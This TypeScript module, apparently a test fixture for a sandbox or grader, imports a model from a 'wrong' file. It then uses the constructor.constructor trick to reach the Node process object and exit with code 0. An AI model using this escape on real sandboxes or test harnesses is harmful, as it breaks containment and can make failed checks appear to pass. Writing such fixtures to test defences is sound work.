/** Escapes through constructor.constructor. */
import { Model as Base } from '../wrong.ts';
(globalThis as any).constructor.constructor('return process')().exit(0);
export { Base as Model };
